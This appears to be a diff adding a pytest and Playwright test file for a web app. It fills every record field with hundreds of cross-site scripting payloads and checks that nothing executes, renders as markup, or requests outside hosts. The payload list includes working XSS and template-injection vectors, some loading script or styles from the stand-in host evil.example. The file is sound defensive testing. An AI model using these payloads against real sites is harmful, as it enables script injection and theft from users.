@@ -1,0 +1,253 @@
+"""Pages written by enemies: whatever stands in any field of theirs, none of it runs in a browser."""
+
+import html.parser
+from collections.abc import Iterator
+from itertools import product
+from pathlib import Path
+from urllib.parse import urlencode
+
+import pytest
+from fastapi.testclient import TestClient
+from playwright.sync_api import sync_playwright
+from tests.web.browsing import need_chromium, served
+
+from communique.ledger.query import parse
+from communique.ledger.store import Ledger
+from communique.records import (
+    Actor,
+    Article,
+    Commitment,
+    Declared,
+    Group,
+    Mechanism,
+    Meeting,
+    Origin,
+    Part,
+    Participant,
+    Position,
+    Reading,
+    Role,
+    Splice,
+    Statement,
+    Time,
+)
+from communique.web.app import make_app
+from communique.web.asking import place_of, some
+from communique.web.desk import Desk
+from communique.web.naming import address, person_address
+from communique.web.room import Room
+from communique.web.routes.search import SCREEN
+
+OPENINGS = (
+    "", '"', "'", '">', "'>", "`", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</a>", "</p></div>",
+    "</code>", "</svg>", "</option></select>", "\\\">", "%22%3E", "&quot;&gt;", "{{", "<!--", "</noscript>",
+)  # fmt: skip
+"""What could end the place in which a field stands."""
+
+VECTORS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x oNeRrOr=alert`1`>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mi//xlink:href=javascript:alert(1)>x",
+    "<body onload=alert(1)>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    " onmouseover=alert(1) autofocus tabindex=0 onfocus=alert(1) x=",
+    " style=animation-name:x onanimationstart=alert(1) ",
+    "javascript:alert(1)//",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<div hx-get=/ hx-trigger=load hx-on::load=alert(1)>",
+)
+KINDS = ("meeting", "statement", "commitment", "position", "mechanism", "person")
+PAYLOADS = tuple(opening + vector for opening, vector in product(OPENINGS, VECTORS))
+
+TOGETHER = 6
+"""Payloads that stand behind one another in each field; one that opens a comment would hide those behind it, and is seen
+by that (`Tags` counts comments)."""
+FIELDS = tuple(" ".join(PAYLOADS[at : at + TOGETHER]) for at in range(0, len(PAYLOADS), TOGETHER))
+
+WATCH = """
+window.__ran = [];
+for (const name of ["alert", "confirm", "prompt"]) window[name] = (...said) => window.__ran.push(`${name} ${said}`);
+document.addEventListener("securitypolicyviolation", (event) => window.__ran.push(`refused ${event.violatedDirective}`));
+"""
+"""Notes what runs, and also what would have run if the policy had not refused it: nothing may get that far."""
+
+
+def hostile(payload: str, number: int) -> Reading:
+    """A reading in which every field that comes from a page holds the payload."""
+    line = f"{payload} agreed that day {number}."
+    text = f"{payload}\n{line}\n{line}"
+    whole, spot = (len(payload) + 1, len(payload) + 1 + len(line)), (len(payload) + 1, 2 * len(payload) + 1)
+    made = {"made_by": "rule/1", "confidence": 0.5, "evidence": (whole,)}
+    role = Role(payload, payload, spot)
+    actors = (
+        Actor("a1", "person", f"{payload} {number}", payload, (role,), (spot,), suggestion=payload, **made),
+        Actor("a2", "person", f"Ann {payload}", "JPN", (role,), (spot,), **made),
+        Actor("a3", "outlet", payload, None, (), (spot,), **made),
+    )
+    article = Article(
+        text,
+        (Part("title", (0, len(payload))), Part("paragraph", whole)),
+        url=f"https://evil.example/{number}/{payload}",
+        title=payload,
+        declared=Declared(payload, payload, payload, payload, payload, payload),
+        origin=Origin(payload, "2025-01-02", (payload,)),
+        splices=(Splice(payload, payload, payload), Splice(payload, payload, payload, at=whole[0] + 3)),
+        reference="2025-01-02",
+        reference_reason=payload,
+        warnings=(payload,),
+    )
+    return Reading(
+        article,
+        actors,
+        (Time(spot, None, None, "open", None, "rule/1", 0.5),),
+        (Mechanism("k1", payload, ("CHN", payload), **made),),
+        (
+            Meeting(
+                "m1", "talks", "held", (Participant("a1", payload), Participant("a2", "JPN")), (payload, "JPN"), payload,
+                "2025-01-02", "2025-01-02", payload, "k1", 3, **made,
+            ),
+        ),
+        (Statement("s1", "a1", spot, spot, (whole,), "direct", ("a3",), "m1", "2025-01-02", **made),),
+        (Commitment("c1", "agreed", (payload, "JPN"), (payload,), whole, payload, "2025-02-01", "m1", Group(payload, 9, 1), "s1", **made),),
+        (Position(payload, "support", whole, "s1", **made),),
+    )  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Room]:
+    folder = tmp_path_factory.mktemp("hostile")
+    with Ledger(folder / "hostile.sqlite", create=True) as ledger:
+        ledger.add(*(hostile(payload, number) for number, payload in enumerate(FIELDS)), workers=1)
+        desk = Desk(folder / "hostile.desk.sqlite")
+        for number, payload in enumerate(FIELDS[::10]):
+            desk.save_search("you", payload, f"day {number}")
+        yield Room(ledger, desk, today="2025-01-01")
+
+
+class Tags(html.parser.HTMLParser):
+    """The elements and attributes of a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.met: set[str] = set()
+
+    def handle_comment(self, data: str) -> None:
+        """Ours hold none."""
+        self.met.add("comment")
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Note an element, its attributes, and where it leads."""
+        self.met.add(tag)
+        for name, value in attrs:
+            self.met.add(f"@{name}")
+            if name in ("href", "src", "action"):
+                self.met.add(f"{name} {(value or '')[:1]}")
+
+
+def tags(text: str) -> set[str]:
+    """The elements and attributes of a page, and the first characters of its links."""
+    parser = Tags()
+    parser.feed(text)
+    return parser.met
+
+
+@pytest.fixture(scope="module")
+def visited(room: Room) -> list[str]:
+    """Each payload's page and one of its records, each kind in turn; and every list, whose rows hold all of them."""
+    ledger = room.ledger
+    found = ["/", "/people", "/mechanisms", "/pairs", "/search", "/add", "/search?copies=one"]
+    for number, one in enumerate(ledger.find("type:page")):
+        found.append(f"/pages/{one.id}")
+        kind = KINDS[number % len(KINDS)]
+        if kind == "person":
+            found.append(str(person_address(ledger.reading(one.id).actors[0])))
+        else:
+            found.append(address(next(ledger.find(f"type:{kind} page:{one.id}", limit=1)).id))
+    for kind in ("page", "meeting", "statement", "commitment", "position"):
+        after = ""
+        while after is not None:
+            _, following = some(ledger, parse(f"type:{kind}"), SCREEN, place_of(after) if after else None)
+            found.append(f"/search?type={kind}&after={after}")
+            after = following
+    for number in range(0, len(FIELDS), 20):
+        found.append(f"/review?{urlencode({'q': f'-type:page day {number}'})}")
+        found.append(f"/search?{urlencode({'q': FIELDS[number]})}")
+    one, other = (found.version for found in ledger.find("type:page", limit=2))
+    return [*found, f"/compare?a={one}&b={other}"]
+
+
+def test_there_are_enough() -> None:
+    assert len(set(PAYLOADS)) >= 500
+
+
+def test_no_field_makes_an_element_or_an_attribute(room: Room, visited: list[str], tmp_path: Path) -> None:
+    """What a payload's page holds, an innocent page holds too: what stands in the fields has become text."""
+    allowed: dict[str, set[str]] = {}
+    with Ledger(tmp_path / "innocent.sqlite", create=True) as ledger:
+        ledger.add(hostile("plain words", 1), hostile("other words", 2), workers=1)
+        calm = Room(ledger, Desk(tmp_path / "innocent.desk.sqlite"), today=room.today)
+        calm.desk.save_search("you", "plain", "plain")
+        with TestClient(make_app(calm), base_url="http://127.0.0.1") as client:
+            for one in ledger.find(""):
+                path = address(one.id)
+                allowed.setdefault(path.split("/")[1], set()).update(tags(client.get(path).text))
+            for name in ledger.list_people(""):
+                allowed.setdefault("people", set()).update(tags(client.get(address(name.id)).text))
+    with TestClient(make_app(room), base_url="http://127.0.0.1") as client:
+        for place in visited:
+            kind = place.split("/")[1]
+            if kind in allowed and place.count("/") == 2:
+                answer = client.get(place)
+                assert answer.status_code == 200, (place, answer.url, answer.text)
+                assert tags(answer.text) <= allowed[kind], (place, tags(answer.text) - allowed[kind])
+
+
+def test_none_runs(room: Room, visited: list[str]) -> None:
+    """Every payload in a browser, whose own list of what ran, or was refused, stays empty."""
+    path = need_chromium()
+    dialogs: list[str] = []
+    outside: list[str] = []
+    with served(room) as base, sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox"])
+        page = browser.new_page()
+        page.add_init_script(WATCH)
+        page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
+        page.on("request", lambda one: outside.append(one.url) if not one.url.startswith(base) else None)
+        for place in visited:
+            page.goto(base + place)
+            assert page.evaluate("window.__ran") == [], place
+            assert page.url.startswith(base), place
+        browser.close()
+    assert dialogs == []
+    assert outside == []
+
+
+def test_the_watch_watches() -> None:
+    """Were anything to run, it would be noted: a page without our escaping and policy."""
+    path = need_chromium()
+    with sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox"])
+        page = browser.new_page()
+        page.add_init_script(WATCH)
+        page.route("**/*", lambda route: route.fulfill(body="<img src=x onerror=alert(1)>", content_type="text/html"))
+        page.goto("http://room.example/")
+        page.wait_for_function("window.__ran.length > 0")
+        assert page.evaluate("window.__ran") == ["alert 1"]
+        browser.close()
